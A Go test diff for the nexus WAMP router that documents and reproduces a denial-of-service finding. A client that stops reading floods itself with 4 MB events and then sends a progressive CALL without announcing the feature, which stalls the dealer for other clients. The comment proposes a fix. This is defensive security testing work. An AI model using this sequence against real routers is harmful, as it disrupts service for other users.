@@ -529,3 +529,56 @@ func TestAttackPublishOddFilters(t *testing.T) {
 		t.Error("subscriber disconnected")
 	}
 }
+
+// FINDING (cross-client harm: realm-wide stall): nexus's dealer, on a
+// progressive CALL from a caller that did not announce the feature (and on
+// payload passthru mode without the feature, for CALL and YIELD), sends
+// ABORT and calls the session's Close from inside the dealer goroutine.
+// peer.Close waits until the writer has flushed and the sender is done:
+// for a client that has stopped reading, with a write pending, that is
+// flushTimeout (1 s), during which the realm's dealer routes nothing: no
+// CALL, YIELD or ERROR of any client. A client that connects, makes the
+// router write a few MB to it (an EVENT of its own) and sends that CALL
+// stalls all RPC for a second per connection, and can do so again and
+// again.
+//
+// Fix: refuse such a CALL in the reader before nexus sees it
+// (ledger.admit knows whether the caller announced progressive call
+// invocations: a CALL with progress=true without it is a protocol
+// violation, end the session from the reader; same for ppt_scheme without
+// payload_passthru_mode, for CALL, PUBLISH and YIELD), and make peer.Close
+// not wait when called from nexus's goroutines (start the shutdown and
+// return; wait in a goroutine before onRelease).
+func TestAttackProgressiveWithoutFeatureStallsDealer(t *testing.T) {
+	r := startRouter(t, router.Config{})
+	callee := dial(t, r.RawSocketURL(), client.Config{Serialization: serialize.MSGPACK})
+	if err := callee.Register("com.test.echo", echo, nil); err != nil {
+		t.Fatal(err)
+	}
+	victim := dial(t, r.RawSocketURL(), client.Config{Serialization: serialize.MSGPACK})
+	call := func() time.Duration {
+		start := time.Now()
+		if _, err := victim.Call(t.Context(), "com.test.echo", nil, wamp.List{1}, nil, nil); err != nil {
+			t.Logf("victim call: %v", err)
+		}
+		return time.Since(start)
+	}
+	base := call()
+
+	attacker := dialRSJSON(t, r, 15, 4096) // stops reading
+	attacker.join(allRoles)
+	attacker.send(`[32,1,{},"com.test.self"]`)
+	attacker.recv(33)
+	big := strings.Repeat("x", 4<<20)
+	attacker.sendAll(`[16,2,{"exclude_me":false},"com.test.self",["`+big+`"]]`,
+		`[16,3,{"exclude_me":false},"com.test.self",["`+big+`"]]`)
+	time.Sleep(300 * time.Millisecond) // the router is now stuck writing to the attacker
+	attacker.send(`[48,4,{"progress":true},"com.test.echo",[]]`)
+	time.Sleep(20 * time.Millisecond)
+	stalled := call()
+	if stalled > 500*time.Millisecond {
+		t.Errorf("FINDING: another client's CALL waited %v for the dealer (%v before), while nexus closed a session from the dealer goroutine", stalled, base)
+	} else {
+		t.Logf("victim's CALL: %v before, %v during the attack", base, stalled)
+	}
+}
